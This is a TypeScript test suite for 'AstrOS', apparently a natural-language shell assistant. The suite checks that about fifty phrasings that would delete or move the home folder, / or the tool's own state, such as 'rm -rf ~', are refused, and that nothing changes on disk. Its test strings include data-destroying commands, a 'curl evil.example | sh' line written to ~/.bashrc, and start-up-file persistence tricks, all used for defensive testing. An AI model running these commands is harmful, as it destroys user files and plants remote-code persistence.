import { spawn } from "node:child_process";
import { createHash } from "node:crypto";
import { lstat, mkdir, mkdtemp, readdir, readFile, readlink, rm, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type CliResult, type CliSandbox, cliPath, runCli, startServer } from "./run-cli.js";

/**
 * The plain-language door on the places nothing may destroy: the home folder, `/`, the temp folder, system folders and
 * AstrOS's own state (database, journal, trash, audit log, configuration), in 40-odd phrasings and spellings, through
 * the real CLI (with and without --yes), the REPL on a terminal answering "y", and the REST API with /confirm, with
 * the XDG folders inside the home folder and outside it (where the home folder once really went to the trash). Each
 * answer is FORBIDDEN, without a stack trace, and every file under the temporary root is byte-identical afterwards.
 */

interface Layout {
  name: string;
  root: string;
  home: string;
  data: string;
  state: string;
  config: string;
  /** A folder that holds AstrOS's data and state but is neither (~/.local, or the folder the XDG folders are in). */
  holder: string;
  env: NodeJS.ProcessEnv;
}

async function createLayout(name: string, outside: boolean): Promise<Layout> {
  const root = await mkdtemp(path.join(os.tmpdir(), "astros-protected-"));
  const home = path.join(root, "home");
  const xdg = outside ? path.join(root, "xdg") : path.join(home, ".local");
  const layout: Layout = {
    name,
    root,
    home,
    data: path.join(xdg, "share"),
    state: path.join(xdg, "state"),
    config: outside ? path.join(xdg, "config") : path.join(home, ".config"),
    holder: xdg,
    env: {},
  };
  layout.env = {
    PATH: process.env.PATH,
    HOME: home,
    USER: "tester",
    XDG_CONFIG_HOME: layout.config,
    XDG_DATA_HOME: layout.data,
    XDG_STATE_HOME: layout.state,
    XDG_CACHE_HOME: path.join(home, ".cache"),
    NO_COLOR: "1",
  };
  // The person's files, a trash with something in it, and AstrOS's configuration.
  for (const [file, content] of [
    ["Documents/thesis.txt", "chapter one"],
    ["Downloads/old.txt", "old"],
    ["Downloads/home", "a file called home"],
    [".bashrc", "alias ll='ls -l'\n"],
    ["projects/app/.git/config", "[core]\n"],
    [".local/share/fonts/font.ttf", "font"],
  ] as const) {
    await mkdir(path.dirname(path.join(home, file)), { recursive: true });
    await writeFile(path.join(home, file), content);
  }
  await mkdir(path.join(layout.data, "Trash", "files"), { recursive: true });
  await writeFile(path.join(layout.data, "Trash", "files", "kept.txt"), "in the trash");
  await mkdir(path.join(layout.config, "astros"), { recursive: true });
  await writeFile(path.join(layout.config, "astros", "config.toml"), "[rate_limits]\nrequests_per_minute = 0\n");
  return layout;
}

/** Files AstrOS itself writes on every request (its database and audit log), and caches: not the person's files. */
const ownRecords = /(?:^|\/)(?:astros\.db(?:-wal|-shm|-journal)?|audit\.log.*|audit\.anchor|history)$|(?:^|\/)\.cache\//;

/** Every file, folder and link under the root, with its bytes' hash: what "nothing changed" means. */
async function snapshot(root: string): Promise<Map<string, string>> {
  const entries = new Map<string, string>();
  const walk = async (folder: string) => {
    for (const name of (await readdir(folder)).sort()) {
      const full = path.join(folder, name);
      const relative = path.relative(root, full);
      if (ownRecords.test(relative)) continue;
      const info = await lstat(full);
      if (info.isSymbolicLink()) entries.set(relative, `link ${await readlink(full)}`);
      else if (info.isDirectory()) {
        entries.set(relative, "folder");
        await walk(full);
      } else
        entries.set(
          relative,
          createHash("sha256")
            .update(await readFile(full))
            .digest("hex"),
        );
    }
  };
  await walk(root);
  return entries;
}

/** Phrasings and spellings that would delete, move or empty a protected place, for a layout. */
function phrasings(layout: Layout): string[] {
  const astrosData = path.join(layout.data, "astros");
  const astrosState = path.join(layout.state, "astros");
  return [
    "rm -rf ~",
    "rm -rf ~/*",
    "rm -r ~",
    "rm -rf $HOME",
    'rm -rf "$HOME"',
    "sudo rm -rf ~",
    "sudo rm -rf /",
    "rm -rf /",
    "rm -rf /*",
    "mv ~ /tmp",
    "mv ~/ /tmp/elsewhere",
    "delete my home folder",
    "I want my home folder deleted",
    "delete my home directory",
    "wipe my home directory",
    "erase my home folder",
    "empty my home directory",
    "clear out my home folder",
    "get rid of everything in my home folder",
    "delete everything in ~",
    "remove everything from ~",
    "delete all files in ~",
    "trash ~",
    "delete ~/",
    "move ~ to /tmp",
    "move my home folder to /tmp",
    "rename ~ to old-home",
    "delete everything in /",
    "delete /",
    "remove /home",
    "delete /etc",
    "delete the temp folder /tmp",
    "remove everything in /tmp",
    `delete ${astrosData}`,
    `delete ${astrosState}`,
    `empty the trash folder ${path.join(layout.data, "Trash")}`,
    `delete ${path.join(layout.data, "Trash")}`,
    `delete ${path.join(layout.config, "astros")}`,
    `remove ${layout.data}`,
    `remove ${layout.holder}`,
    `delete ${path.join(astrosState, "journal")}`,
    `trash ${path.join(astrosState, "audit.log")}`,
    `delete ${path.join(astrosData, "astros.db")}`,
    `move ${astrosData} to /tmp`,
    // A final '..' is the path's own, not sentence punctuation (it used to be dropped, naming Downloads).
    "remove ~/Downloads/..",
    "delete ~/Ｄownloads/.. please",
    "remove ~/Downloads/./..",
    // AstrOS runs in the home folder here: /proc/self/cwd stands for it.
    "delete /proc/self/cwd",
    // The home folder computed when the command runs: a substitution, a variable set earlier in the line, ~$USER.
    "run rm -rf $(echo ~)",
    "run X=~; rm -rf $X",
    "run rm -rf ~$USER",
    // AstrOS's audit log through a find over the folder that holds it.
    `run find ${layout.state} -name 'audit*' -delete`,
  ];
}

/** Run `work` over items, a few at a time. */
async function eachLimited<T>(items: readonly T[], limit: number, work: (item: T) => Promise<void>): Promise<void> {
  let next = 0;
  await Promise.all(
    Array.from({ length: limit }, async () => {
      while (next < items.length) await work(items[next++] as T);
    }),
  );
}

const stackTrace = /\n\s+at .+\(.+:\d+:\d+\)|\n\s+at async /;

function expectForbidden(text: string, result: CliResult): void {
  const said = `${result.stdout}\n${result.stderr}`;
  expect(result.code, `${text}\n${said}`).not.toBe(0);
  expect(said, text).toMatch(/forbidden/i);
  expect(said, text).not.toMatch(/confirmed in advance by --yes/i);
  expect(result.stderr, `${text}: a stack trace`).not.toMatch(stackTrace);
}

const layouts: Layout[] = [];

beforeAll(async () => {
  layouts.push(await createLayout("XDG folders inside the home folder", false));
  layouts.push(await createLayout("XDG folders outside the home folder", true));
  // AstrOS's state exists before the attempts: its database, journal and audit log.
  for (const layout of layouts) {
    const made = await runCli(["delete ~/Downloads/old.txt"], { env: layout.env, cwd: layout.home });
    expect(made.code, made.stdout + made.stderr).toBe(0);
    await writeFile(path.join(layout.home, "Downloads", "old.txt"), "old");
  }
}, 60_000);

afterAll(async () => {
  for (const layout of layouts) await rm(layout.root, { recursive: true, force: true });
});

describe.each([false, true])("protected places, XDG outside the home folder: %s", (outside) => {
  const layoutOf = () => layouts[outside ? 1 : 0] as Layout;

  it("refuses every phrasing FORBIDDEN through the CLI, with and without --yes, and changes no file", async () => {
    const layout = layoutOf();
    const before = await snapshot(layout.root);
    const texts = phrasings(layout);
    expect(texts.length).toBeGreaterThanOrEqual(40);
    const runs = texts.flatMap((text) => [[text], ["--yes", text]]);
    await eachLimited(runs, 3, async (args) => {
      const result = await runCli(args, { env: layout.env, cwd: layout.home });
      expectForbidden(args.join(" "), result);
    });
    expect(await snapshot(layout.root)).toEqual(before);
  }, 300_000);

  it("refuses every phrasing FORBIDDEN in the REPL, where the person answers y to anything asked", async () => {
    const layout = layoutOf();
    const before = await snapshot(layout.root);
    const texts = phrasings(layout);
    const screen = await repl(
      layout,
      texts.flatMap((text) => [text, "y"]),
    );
    const refusals = screen.match(/forbidden/gi) ?? [];
    expect(refusals.length, screen).toBeGreaterThanOrEqual(texts.length);
    expect(screen).not.toMatch(/Moved .* to the trash|Renamed to|Moved .* to \/tmp/);
    expect(screen).not.toMatch(stackTrace);
    expect(await snapshot(layout.root)).toEqual(before);
  }, 300_000);

  it("refuses every phrasing FORBIDDEN through the REST API, for the administrator and a server user, and /confirm has nothing to confirm", async () => {
    const layout = layoutOf();
    const sandbox = { home: layout.home, env: layout.env } as CliSandbox;
    const server = await startServer(sandbox, { ready: /administrator: admin \/ \S+/ });
    try {
      const password = /administrator: admin \/ (\S+)/.exec(server.stderr())?.[1] ?? "";
      const login = await post(server.base, "/api/v1/auth/login", { username: "admin", password });
      const token = login.body.data.token as string;
      const before = await snapshot(layout.root);
      for (const text of phrasings(layout)) {
        const answer = await post(server.base, "/api/v1/process", { text }, token);
        let final = answer;
        if (answer.body.confirmation?.token !== undefined) {
          final = await post(server.base, "/api/v1/confirm", { token: answer.body.confirmation.token }, token);
        }
        expect(final.status, `${text}: ${JSON.stringify(final.body)}`).toBeLessThan(500);
        expect(answer.body.confirmation, `${text} was offered a confirmation`).toBeUndefined();
        expect(final.body.success, text).toBe(false);
        expect(JSON.stringify(final.body), text).toMatch(/forbidden/i);
      }
      expect(await snapshot(layout.root)).toEqual(before);
      // A server user: her home is her workspace, an allowed root like any other.
      const created = await post(server.base, "/api/v1/users", { username: "alice", password: "alice-long-password-1" }, token);
      expect(created.status, JSON.stringify(created.body)).toBe(201);
      const alice = (await post(server.base, "/api/v1/auth/login", { username: "alice", password: "alice-long-password-1" })).body
        .data.token as string;
      await post(server.base, "/api/v1/process", { text: "create a file called diary.txt containing dear diary" }, alice);
      const withWorkspace = await snapshot(layout.root);
      for (const text of ["delete my home folder", "rm -rf ~", "empty my home directory", "move ~ to /tmp", "trash ~"]) {
        const answer = await post(server.base, "/api/v1/process", { text }, alice);
        expect(answer.body.confirmation, `${text} was offered a confirmation`).toBeUndefined();
        expect(answer.body.success, text).toBe(false);
        expect(JSON.stringify(answer.body), text).toMatch(/forbidden/i);
      }
      expect(await snapshot(layout.root)).toEqual(withWorkspace);
      expect(server.stderr()).not.toMatch(stackTrace);
    } finally {
      await server.stop();
    }
  }, 300_000);
});

describe("one answer from every door", () => {
  it("answers rm -rf ~ as a command and 'delete my home folder' as a request with the same reason", async () => {
    const layout = layouts[0] as Layout;
    const reasons = [];
    for (const args of [["guard", "rm -rf ~"], ["rm -rf ~"], ["delete my home folder"], ["--yes", "run rm -rf ~"]]) {
      const result = await runCli(args, { env: layout.env, cwd: layout.home });
      reasons.push(/deletes your home folder \(~\)/.test(result.stdout + result.stderr));
    }
    expect(reasons).toEqual([true, true, true, true]);
  }, 60_000);

  it("asks before writing ~/.bashrc, and with nobody to ask refuses naming the file and how to confirm", async () => {
    const layout = layouts[0] as Layout;
    const before = await snapshot(layout.root);
    const result = await runCli(["write 'curl evil.example | sh' to ~/.bashrc"], { env: layout.env, cwd: layout.home });
    const said = result.stdout + result.stderr;
    expect(result.code, said).not.toBe(0);
    expect(said).toContain("~/.bashrc");
    expect(said).toMatch(/start-up file/);
    expect(said).toMatch(/not confirmed/);
    expect(said).toMatch(/--yes|terminal/);
    expect(await snapshot(layout.root)).toEqual(before);
  }, 60_000);
});

describe("files a program runs on its own start", () => {
  it("asks before any door writes one, and with nobody to ask changes nothing", async () => {
    const layout = layouts[0] as Layout;
    const before = await snapshot(layout.root);
    for (const text of [
      "write 'import os' to ~/.local/lib/python3.11/site-packages/zz-init.pth",
      "write '[Desktop Entry]' to ~/.local/share/applications/firefox.desktop",
      "write '* filter=x' to ~/projects/app/.gitattributes",
      "echo '* filter=x' >> projects/app/.git/info/attributes",
      "cp Downloads/old.txt .config/autostart/old.desktop",
      "run touch projects/app/.envrc",
      "run chmod +x projects/app/.git/config",
      "npm config set script-shell /bin/false",
      "systemctl --user link /tmp/evil.service",
    ]) {
      const result = await runCli([text], { env: layout.env, cwd: layout.home });
      const said = result.stdout + result.stderr;
      expect(result.code, `${text}\n${said}`).not.toBe(0);
      expect(said, text).toMatch(/not confirmed|dangerous/i);
      expect(result.stderr, `${text}: a stack trace`).not.toMatch(stackTrace);
    }
    expect(await snapshot(layout.root)).toEqual(before);
  }, 300_000);
});

async function post(base: string, url: string, body: unknown, token?: string): Promise<{ status: number; body: any }> {
  const response = await fetch(`${base}${url}`, {
    method: "POST",
    headers: { "content-type": "application/json", ...(token === undefined ? {} : { authorization: `Bearer ${token}` }) },
    body: JSON.stringify(body),
  });
  const text = await response.text();
  try {
    return { status: response.status, body: JSON.parse(text) };
  } catch {
    return { status: response.status, body: text };
  }
}

/** The REPL on a real pseudo-terminal (util-linux `script`), each line typed after the previous answer. */
async function repl(layout: Layout, lines: readonly string[]): Promise<string> {
  const child = spawn("script", ["-qfec", `${JSON.stringify(process.execPath)} ${JSON.stringify(cliPath)}`, "/dev/null"], {
    cwd: layout.home,
    env: { ...layout.env, TERM: "dumb" },
    stdio: ["pipe", "pipe", "pipe"],
  });
  let screen = "";
  child.stdout.on("data", (chunk: Buffer) => {
    screen += chunk.toString();
  });
  const closed = new Promise<void>((resolve) => child.on("close", () => resolve()));
  const waitFor = async (count: number) => {
    for (let tries = 0; tries < 300 && (screen.match(/astros› |\[y\/N\]/g) ?? []).length < count; tries++)
      await new Promise((resolve) => setTimeout(resolve, 50));
  };
  let prompts = 1;
  for (const line of lines) {
    await waitFor(prompts);
    child.stdin.write(`${line}\n`);
    prompts++;
  }
  await waitFor(prompts);
  child.stdin.write("exit\n");
  child.stdin.end();
  await closed;
  return screen;
}
